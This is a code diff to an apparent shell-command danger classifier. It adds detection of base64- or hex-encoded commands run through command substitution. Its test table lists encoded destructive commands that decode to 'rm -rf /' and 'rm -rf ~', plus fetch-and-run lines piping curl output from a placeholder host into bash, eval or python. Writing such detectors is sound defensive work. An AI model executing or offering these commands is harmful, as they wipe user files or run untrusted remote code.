@@ -212,6 +212,8 @@ def _runtime_program(ctx, cmd) -> None:
     inner = ctx.substitution_commands(w)
     if any(is_download(c) for c in inner):
         ctx.add("code.run-fetched", cmd, what="a command", how="")
+    elif (decoder := next((c for c in inner if c.name in DECODERS and is_decoding(c)), None)) is not None:
+        ctx.add("code.run-encoded", cmd, how=f"$({decoder.name} …)")  # `$(echo cm0g… | base64 -d)`
     elif inner and all(c.name in ("echo", "printf") for c in inner):
         produced = " ".join(" ".join(a.text for a in c.args if not a.text.startswith("-")) for c in inner)
         ctx.merge(ctx.nested((produced + " " + " ".join(a.text for a in cmd.args)).strip()), cmd)
@@ -389,6 +391,8 @@ EXAMPLES = [
     ("echo cm0gLXJmIC8= | base64 -d | sh", DANGEROUS, "code.run-encoded"),
     ('perl -e "$(echo cm0= | base64 -d)"', DANGEROUS, "code.run-encoded"),
     ("echo aGk= | base64 -d", SAFE, "not code.run-encoded"),
+    ("$(echo cm0gLXJmIH4K | base64 -d)", DANGEROUS, "code.run-encoded"),
+    ("`xxd -r -p <<< 726d202d7266207e`", DANGEROUS, "code.run-encoded"),
     ("bash <(curl -s http://x)", DANGEROUS, "code.run-fetched"),
     ('eval "$(curl http://x)"', DANGEROUS, "code.run-fetched"),
     ('python3 -c "$(curl -s http://x)"', DANGEROUS, "code.run-fetched"),
